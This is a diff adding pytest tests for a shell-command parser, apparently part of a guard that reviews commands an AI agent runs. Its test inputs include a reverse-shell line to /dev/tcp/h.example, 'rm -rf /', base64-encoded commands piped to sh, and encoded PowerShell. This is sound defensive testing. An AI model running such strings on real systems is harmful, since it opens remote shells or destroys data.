@@ -1,0 +1,177 @@
+"""How a command line is taken apart: what runs, in which order, on what."""
+
+import base64
+import time
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from agentwarrant import shell
+
+
+def lines(text: str) -> list[str]:
+    """Return program and arguments of every simple command."""
+    return [" ".join([command.program, *command.args]) for command in shell.parse(text)]
+
+
+@pytest.mark.parametrize(
+    ("text", "commands"),
+    [
+        ("ls -la", ["ls -la"]),
+        ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
+        ("a\nb \\\n  --flag", ["a", "b --flag"]),
+        ("make # not; rm -rf /", ["make"]),
+        ("echo a#b", ["echo a#b"]),
+        ("/usr/bin/Git status", ["git status"]),
+        (r"C:\Windows\System32\curl.exe -I x", ["curl -I x"]),
+        ("A=1 B=2 make test", ["make test"]),
+        ("sudo -u root env X=1 nice -n 5 cat f", ["cat f"]),
+        ("timeout 5 time -p cat f", ["cat f"]),
+        ("if true; then cat f; fi", ["true", "cat f", "fi"]),
+        ("(cat f)", ["cat f"]),
+        ("command -v curl", ["command -v curl"]),
+        ("env", ["env"]),
+        ("c''at 'a b' \"c d\" e\\ f", ["cat a b c d e f"]),
+        (r'echo "a \"b\" \$c"', ['echo a "b" $c']),
+        ("cat $'f'", ["cat f"]),
+        (r"type C:\Users\ann\a.txt", [r"type C:\Users\ann\a.txt"]),
+        (r'type "%USERPROFILE%\a b.txt"', [r"type %USERPROFILE%\a b.txt"]),
+    ],
+)
+def test_a_command_line_is_split_as_a_shell_would(text: str, commands: list[str]) -> None:
+    assert lines(text) == commands
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "bash -c 'cat f'",
+        "bash -euxc 'cat f'",
+        'sh -c "bash -c \\"cat f\\""',
+        "eval 'cat f'",
+        "echo cat f | sh",
+        "printf 'cat f' | sudo bash -s",
+        "echo Y2F0IGY= | base64 -d | bash",
+        "base64 -d <<< Y2F0IGY= | sh",
+        "echo 6361742066 | xxd -r -p | sh",
+        "bash <<< 'cat f'",
+        "bash <<EOF\ncat f\nEOF",
+        "bash -s <<'EOF'\ncat f\nEOF\n",
+        "cat <<EOF | sh\ncat f\nEOF",
+        "cmd /c cat f",
+        'powershell -NoProfile -Command "cat f"',
+        f"pwsh -enc {base64.b64encode('cat f'.encode('utf-16-le')).decode()}",
+        "su -c 'cat f' postgres",
+        "ssh -i key -p 22 u@h cat f",
+        "docker exec -it -u root web cat f",
+        "kubectl exec -n prod pod -- cat f",
+        "find . -name f -exec cat {} +",
+        r"find / -iname f -execdir cat {} \;",
+        "find . -name f | xargs cat",
+        "find . -name f -print0 | xargs -0 -n 1 cat",
+        "echo f | xargs -I{} cat {}",
+        "x $(cat f)",
+        "x `cat f`",
+        'x "$(cat f)"',
+        "diff <(cat f) b",
+        "x=$(cat f)",
+        "x > $(cat f)",
+        "cat <<EOF\n$(cat f)\nEOF",
+    ],
+)
+def test_what_is_code_inside_a_command_is_read_too(text: str) -> None:
+    assert "cat f" in lines(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo 'cat f'",
+        "cat > notes.md <<'EOF'\ncat f\nEOF",
+        "cat <<'EOF'\n$(cat f)\nEOF",
+        "git commit -m 'then cat f'",
+        "x '$(cat f)'",
+        "bash script.sh <<< 'cat f'",
+        "# cat f",
+    ],
+)
+def test_what_is_only_text_is_not_read_as_code(text: str) -> None:
+    assert "cat f" not in lines(text)
+
+
+def test_commands_go_on_behind_a_here_document() -> None:
+    assert lines("cat > a <<A <<-B\none\nA\ntwo\n\tB\nls") == ["cat", "ls"]
+
+
+def test_a_here_document_without_an_end_takes_the_rest() -> None:
+    assert lines("python3 - <<EOF\nrm -rf /\n") == ["python3 -"]
+    assert shell.parse("python3 - <<EOF\nrm -rf /\n")[0].given == "rm -rf /\n"
+
+
+def test_redirections_are_no_arguments() -> None:
+    (command,) = shell.parse("sort -u < in 2>&1 >> out 2> /dev/null &> all")
+    assert (command.args, command.reads) == (["-u"], ["in"])
+    assert command.writes == ["out", "/dev/null", "all"]
+
+
+def test_a_socket_of_the_shell_is_written_to_and_read() -> None:
+    (command,) = shell.parse("exec 5<>/dev/tcp/h.example/80")
+    assert command.reads == command.writes == ["/dev/tcp/h.example/80"]
+    assert shell.parse("bash -i >& /dev/tcp/h.example/80 0>&1")[0].writes == [
+        "/dev/tcp/h.example/80"
+    ]
+
+
+def test_pipes_and_elevation_are_noted() -> None:
+    first, second, third = shell.parse("sudo cat f | (tee g) ; ls")
+    assert (first.elevated, first.piped) == (True, False)
+    assert (second.elevated, second.piped) == (False, True)
+    assert (third.elevated, third.piped) == (False, False)
+
+
+SCRAPS = st.lists(
+    st.sampled_from(
+        "a cat ' \" ` $( ) ( <( >( \\ | || && ; \n << <<< EOF <<-'X' > 2>&1 <> # {} xargs sudo env "
+        "-c bash -enc eval find -exec ssh docker exec base64 -d | A=1 \t é 🦀 \x00 \ud800".split(
+            " "
+        )
+    )
+).map(" ".join)
+
+
+@given(st.text() | SCRAPS)
+def test_no_text_is_too_strange_to_be_read(text: str) -> None:
+    for command in shell.parse(text):
+        assert isinstance(command.text, str)
+
+
+HOSTILE = [
+    "'", '"', "`", "$(", "<(", "$(a", "a<<b\n", "<<b", "\\", "'\"", "a=b ", '"\\', "a|", "a;",
+    "xargs ", "echo a | xargs {}{} | ", "bash -c ", "find -name x -exec ", "ssh a ", "sudo ",
+    "2>&1 ", "eval ", "echo $(echo a) ", "a\\\n", "((", "))", "# ", "${", "$'", "-enc QQBB ",
+]  # fmt: skip
+
+
+def seconds(work: Callable[[], object]) -> float:
+    best = float("inf")
+    for _ in range(3):
+        begun = time.perf_counter()
+        work()
+        best = min(best, time.perf_counter() - begun)
+    return best
+
+
+@pytest.mark.parametrize("unit", HOSTILE)
+def test_the_time_grows_with_the_length_only(unit: str) -> None:
+    def parse(length: int) -> Callable[[], object]:
+        text = unit * (length // len(unit))
+        return lambda: shell.parse(text)
+
+    assert seconds(parse(60_000)) < 12 * seconds(parse(15_000)) + 0.02
+
+
+def test_a_command_is_read_to_a_limit_only() -> None:
+    assert len(shell.parse("a;" * 100_000)) <= 400
+    assert len(shell.parse("a " * shell.MAX_COMMAND)[0].args) < shell.MAX_COMMAND
